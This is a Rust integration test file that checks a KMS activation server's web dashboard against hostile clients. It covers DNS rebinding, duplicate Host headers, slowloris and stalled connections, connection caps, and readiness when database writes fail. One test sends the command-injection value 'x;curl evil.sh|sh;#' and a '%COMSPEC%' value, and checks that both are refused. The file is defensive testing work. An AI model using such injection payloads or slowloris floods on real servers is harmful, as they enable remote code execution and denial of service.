//! The web server against hostile clients, in-process on loopback: the `Host` check (DNS
//! rebinding, header injection into client commands), what unauthenticated and idle clients
//! can hold, and `/readyz` when client record writes fail.

mod web_common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use rkms::web::WebOptions;
use rkms_store::ClientStore;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use web_common::{activate, clients, start, Options, TOKEN};

/// A parsed response: status, head (lower-cased) and body.
struct Answer {
    status: u16,
    head: String,
    body: String,
}

/// Sends `text` as is on a new connection and reads until the server closes (10 s at most).
async fn raw(addr: std::net::SocketAddr, text: &str) -> Answer {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(text.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    // A reset after the answer (a refused connection) still leaves the answer read.
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out))
        .await
        .expect("the server answers and closes within 10 s");
    let out = String::from_utf8_lossy(&out).into_owned();
    let (head, body) = out.split_once("\r\n\r\n").unwrap_or((&out, ""));
    Answer {
        status: head
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0),
        head: head.to_ascii_lowercase(),
        body: body.to_owned(),
    }
}

/// `GET path` with `Host: host` and optional bearer token, `Connection: close`.
async fn get_as(addr: std::net::SocketAddr, path: &str, host: &str, token: Option<&str>) -> Answer {
    let auth = token
        .map(|t| format!("Authorization: Bearer {t}\r\n"))
        .unwrap_or_default();
    raw(
        addr,
        &format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{auth}Connection: close\r\n\r\n"),
    )
    .await
}

#[tokio::test]
async fn token_less_dashboard_answers_only_its_own_names() {
    let host = start(Options {
        web: Some(WebOptions {
            hosts: vec!["kms.example.lan".into()],
            ..WebOptions::default()
        }),
        ..Options::default()
    })
    .await;
    let web = host.web;
    let port = web.port();
    // A rebound name: a page on evil.example whose name now resolves to 127.0.0.1.
    for path in ["/", "/clients", "/api/v1/clients", "/products", "/metrics"] {
        let r = get_as(web, path, &format!("evil.example:{port}"), None).await;
        assert_eq!(r.status, 421, "{path}: {}", r.body);
        assert!(r.body.contains("--web-host evil.example"), "{}", r.body);
        assert!(r.head.contains("connection: close"));
    }
    for name in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        "localhost".into(),
        format!("KMS.example.lan:{port}"),
    ] {
        let r = get_as(web, "/api/v1/clients", &name, None).await;
        assert_eq!(r.status, 200, "{name}: {}", r.body);
    }
    // Another loopback address is not the one the request came in on.
    assert_eq!(
        get_as(web, "/", &format!("127.0.0.2:{port}"), None)
            .await
            .status,
        421
    );
    // Probes answer whatever the name (load balancers use their own).
    assert_eq!(get_as(web, "/livez", "lb.internal", None).await.status, 200);
    // Absolute request targets are checked too.
    let r = raw(
        web,
        &format!(
            "GET http://evil.example:{port}/api/v1/clients HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nConnection: close\r\n\r\n"
        ),
    )
    .await;
    assert_eq!(r.status, 421, "{}", r.body);
    // Two Host headers: refused.
    let r = raw(
        web,
        &format!("GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nHost: evil.example\r\nConnection: close\r\n\r\n"),
    )
    .await;
    assert_eq!(r.status, 400);
}

#[tokio::test]
async fn a_host_header_never_reaches_a_client_command() {
    for token in [None, Some(TOKEN)] {
        let host = start(Options {
            token: token.map(str::to_owned),
            ..Options::default()
        })
        .await;
        let web = host.web;
        let r = get_as(web, "/products?q=W269N", "x;curl evil.sh|sh;#", token).await;
        assert_eq!(r.status, 400, "token {token:?}: {}", r.body);
        assert!(!r.body.contains("curl"), "{}", r.body);
        let r = get_as(web, "/products?q=W269N", "%COMSPEC%", token).await;
        assert_eq!(r.status, 400);
        // The query parameter is held to the same rule.
        let r = get_as(
            web,
            "/products?q=W269N&host=a%25COMSPEC%25",
            &web.to_string(),
            token,
        )
        .await;
        assert_eq!(r.status, 400, "{}", r.body);
    }
    // With a token, a well-formed name the browser used is what clients are told.
    let host = start(Options {
        token: Some(TOKEN.into()),
        ..Options::default()
    })
    .await;
    let r = get_as(host.web, "/products?q=W269N", "KMS.lan:8080", Some(TOKEN)).await;
    assert_eq!(r.status, 200);
    let kms_port = host.kms.port();
    assert!(
        r.body.contains(&format!("slmgr /skms kms.lan:{kms_port}")),
        "{}",
        r.body
    );
}

#[tokio::test]
async fn unauthenticated_clients_do_not_keep_their_connection() {
    let host = start(Options {
        token: Some(TOKEN.into()),
        ..Options::default()
    })
    .await;
    let mut s = TcpStream::connect(host.web).await.unwrap();
    let started = Instant::now();
    // Keep-alive asked for; two requests pipelined.
    let one = format!("GET /api/v1/clients HTTP/1.1\r\nHost: {}\r\n\r\n", host.web);
    s.write_all(format!("{one}{one}").as_bytes()).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut out))
        .await
        .expect("closed after the 401, not kept open")
        .unwrap();
    let text = String::from_utf8_lossy(&out);
    assert_eq!(text.matches("HTTP/1.1 401").count(), 1, "{text}");
    assert!(started.elapsed() < Duration::from_secs(2));
}

#[tokio::test]
async fn web_connections_are_capped_and_timed_out() {
    let limits = rkms::web::WebLimits {
        max_connections: 8,
        header_timeout: Duration::from_millis(1500),
        ..Default::default()
    };
    let host = start(Options {
        web: Some(WebOptions {
            limits,
            ..WebOptions::default()
        }),
        ..Options::default()
    })
    .await;
    let web = host.web;
    // 8 idle connections take every place; the 9th is told so and closed at once.
    let mut idle = Vec::new();
    for _ in 0..8 {
        idle.push(TcpStream::connect(web).await.unwrap());
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    let r = get_as(web, "/livez", &web.to_string(), None).await;
    assert_eq!(r.status, 503, "{}", r.body);
    assert!(r.body.contains("too many open dashboard connections"));
    // A slowloris sending a byte every 300 ms and an idle kept-alive connection are closed
    // by the header timeout like the silent ones.
    let mut kept = idle.pop().unwrap();
    kept.write_all(format!("GET /livez HTTP/1.1\r\nHost: {web}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut slow = idle.pop().unwrap();
    let started = Instant::now();
    let trickle = async {
        for b in b"GET / HTTP/1.1\r\nHost: x\r\nX-Pad: aaaaaaaaaaaaaaaaaaaaaaaaaaaa" {
            if slow.write_all(&[*b]).await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(300)).await;
        }
        let mut b = [0u8; 1];
        matches!(slow.read(&mut b).await, Ok(0) | Err(_))
    };
    let slow_closed = tokio::time::timeout(Duration::from_secs(6), trickle)
        .await
        .expect("the slowloris is closed by the header timeout");
    assert!(slow_closed);
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(4), kept.read_to_end(&mut out))
        .await
        .expect("an idle kept-alive connection is closed")
        .unwrap();
    assert!(String::from_utf8_lossy(&out).starts_with("HTTP/1.1 200"));
    for mut s in idle {
        let mut b = [0u8; 1];
        let n = tokio::time::timeout(Duration::from_secs(3), s.read(&mut b))
            .await
            .expect("a silent connection is closed by the header timeout");
        assert!(matches!(n, Ok(0) | Err(_)));
    }
    // Places free again.
    assert_eq!(
        get_as(web, "/livez", &web.to_string(), None).await.status,
        200
    );
}

/// Sets triggers that make every insert and update of the SQLite database at `path` fail
/// (`fail = true`), or removes them. Reads, and the store's lock probe, still work: the kind
/// of failure a corrupted page gives.
fn fail_writes(path: &std::path::Path, fail: bool) {
    let db = rusqlite::Connection::open(path).unwrap();
    db.busy_timeout(Duration::from_secs(5)).unwrap();
    let tables: Vec<String> = db
        // Not the search index (an FTS5 table, which takes no triggers, and its shadow
        // tables, which FTS5 writes from inside its own statements): the other tables fail.
        .prepare(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' \
             AND name NOT LIKE 'clients_search%'",
        )
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert!(!tables.is_empty());
    for (n, t) in tables.iter().enumerate() {
        for op in ["INSERT", "UPDATE"] {
            let name = format!("test_fail_{op}_{n}");
            let sql = if fail {
                format!(
                    "CREATE TRIGGER {name} BEFORE {op} ON \"{t}\" BEGIN \
                     SELECT RAISE(ABORT, 'page 7 is corrupted (test)'); END"
                )
            } else {
                format!("DROP TRIGGER IF EXISTS {name}")
            };
            db.execute_batch(&sql).unwrap();
        }
    }
}

#[tokio::test]
async fn readyz_fails_while_record_writes_fail_and_says_why() {
    let dir = std::env::temp_dir().join(format!("rkms-readyz-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("clients.db");
    let _ = std::fs::remove_file(&path);
    let store: Arc<dyn ClientStore> =
        Arc::from(rkms_store::open_store(path.to_str().unwrap()).unwrap());
    let host = start(Options {
        store: Some(store),
        ..Options::default()
    })
    .await;
    let web = host.web;
    let all = clients();
    let web_name = web.to_string();
    let readyz = || get_as(web, "/readyz", &web_name, None);
    assert!(activate(host.kms, &all[0]).await);
    let deadline = Instant::now() + Duration::from_secs(10);
    while readyz().await.status != 200 {
        assert!(Instant::now() < deadline, "never ready");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    fail_writes(&path, true);
    // Activations go on (the host answers), their records are not written.
    for c in &all[1..4] {
        assert!(activate(host.kms, c).await || c.bogus_kms_id);
    }
    // Well past two self-check intervals: still not ready, with the record and the reason.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let r = readyz().await;
    assert_eq!(r.status, 503, "{}", r.body);
    let json: serde_json::Value = serde_json::from_str(&r.body).unwrap();
    let reason = json["reason"].as_str().unwrap();
    assert!(
        reason.contains("the latest client record write failed")
            && reason.contains("page 7 is corrupted (test)"),
        "{reason}"
    );
    assert!(reason.contains("workstation"), "names the record: {reason}");
    // Writes work again: the next one makes the host ready at once.
    fail_writes(&path, false);
    assert!(activate(host.kms, &all[0]).await);
    let deadline = Instant::now() + Duration::from_secs(5);
    let r = loop {
        let r = readyz().await;
        if r.status == 200 || Instant::now() > deadline {
            break r;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("later writes succeed"), "{}", r.body);
    drop(host);
    let _ = std::fs::remove_dir_all(&dir);
}

#[tokio::test]
async fn a_client_that_stops_reading_its_responses_is_closed() {
    let limits = rkms::web::WebLimits {
        max_connections: 1,
        header_timeout: Duration::from_secs(30),
        stall_timeout: Duration::from_secs(1),
    };
    let host = start(Options {
        web: Some(WebOptions {
            limits,
            ..WebOptions::default()
        }),
        ..Options::default()
    })
    .await;
    let web = host.web;
    // Hundreds of pipelined requests for the biggest page, and never a byte read: the
    // responses fill the socket buffers and the server cannot write any more.
    let mut greedy = TcpStream::connect(web).await.unwrap();
    let one = format!("GET /products HTTP/1.1\r\nHost: {web}\r\n\r\n");
    greedy.write_all(one.repeat(300).as_bytes()).await.unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        get_as(web, "/livez", &web.to_string(), None).await.status,
        503,
        "the greedy client holds the only place"
    );
    // Nothing moves for the stall timeout: the connection is closed and its place freed.
    let deadline = Instant::now() + Duration::from_secs(6);
    loop {
        tokio::time::sleep(Duration::from_millis(250)).await;
        if get_as(web, "/livez", &web.to_string(), None).await.status == 200 {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the stalled connection is still held"
        );
    }
    drop(greedy);
}
